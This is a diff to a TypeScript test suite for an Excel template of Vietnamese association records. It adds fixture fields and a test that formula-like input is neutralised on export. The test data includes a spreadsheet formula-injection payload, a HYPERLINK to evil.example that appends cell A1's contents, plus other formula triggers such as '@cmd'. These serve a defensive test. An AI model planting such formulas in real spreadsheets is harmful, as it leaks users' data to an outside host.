@@ -65,6 +65,11 @@ const values: FlatBody = {
   hq_area_m2: '120,5',
   hq_origin_code: 'thue',
   hq_origin_document: 'Hợp đồng số 12/HĐ',
+  annual_report_year: '2025',
+  annual_report_filed_on: '15/01/2026',
+  inspections: 'Thanh tra Bộ Nội vụ, 03/2025: không phát hiện vi phạm.\nKiểm tra của Sở Nội vụ, 2024.',
+  violations_actions: '',
+  awards: 'Huân chương Lao động hạng Nhất (2020)',
   status: 'hoat_dong',
   data_level: 'basic',
   paper_dossier_ref: '',
@@ -162,6 +167,41 @@ describe('Biểu mẫu 1 Excel template', () => {
     const parsed = parseAssociationForm(read.values, codes);
     expect(parsed.input.record.members_total).toBe(1500);
     expect(parsed.input.lists.leaders?.[0]?.position_code).toBe('CT');
+  });
+
+  it('writes formula-like text as neutralised text (RELIABILITY check 20) and reads it back unchanged', async () => {
+    const formulas: FlatBody = {
+      ...values,
+      name: '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
+      purpose: '+SUM(1,2)\nDòng hai',
+      abbreviation: '-2+3',
+      foreign_name: '@cmd',
+      hq_address: "'=already quoted",
+      other_identifiers: "''+twice",
+      'leaders.0.full_name': '=1+1',
+      'offices.0.address': '@SUM(A1)',
+    };
+    const buffer = await formTemplateWorkbook({ catalogues, title: formulas.name as string }, formulas);
+    const wb = new ExcelJS.Workbook();
+    await wb.xlsx.load(buffer as unknown as ExcelJS.Buffer);
+    const main = wb.getWorksheet(MAIN_SHEET) as ExcelJS.Worksheet;
+    const cellOf = (key: string) => {
+      let value: ExcelJS.CellValue = null;
+      main.eachRow((row) => {
+        if (row.getCell(4).value === key) value = row.getCell(2).value;
+      });
+      return value as ExcelJS.CellValue;
+    };
+    for (const key of ['name', 'purpose', 'abbreviation', 'foreign_name', 'hq_address', 'other_identifiers']) {
+      const cell = cellOf(key);
+      expect(typeof cell, key).toBe('string'); // a string cell, not { formula }
+      expect(cell, key).toBe(`'${formulas[key]}`);
+    }
+    const leaders = wb.getWorksheet(sheetName('Lãnh đạo hội')) as ExcelJS.Worksheet;
+    expect(leaders.getCell(3, 1).value).toBe("'=1+1");
+    const offices = wb.getWorksheet(sheetName('Văn phòng đại diện')) as ExcelJS.Worksheet;
+    expect(offices.getCell(3, 1).value).toBe("'@SUM(A1)");
+    expect(await readFormWorkbook(buffer)).toEqual({ ok: true, values: formulas });
   });
 
   it('refuses a file that is not the template, in Vietnamese', async () => {
